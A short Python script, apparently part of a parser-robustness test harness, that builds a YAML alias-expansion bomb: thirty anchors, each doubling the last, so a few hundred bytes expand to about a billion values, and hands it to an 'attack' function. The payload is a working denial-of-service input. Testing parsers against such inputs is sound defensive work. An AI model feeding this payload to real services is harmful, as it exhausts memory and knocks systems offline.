"""YAML aliases that double at every line: 350 bytes are a billion values."""

from attacking import attack

LINES = ["a0: &a0 [x, x]"] + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 30)]
attack(broken="\n".join(LINES), options={"format": "yaml"})
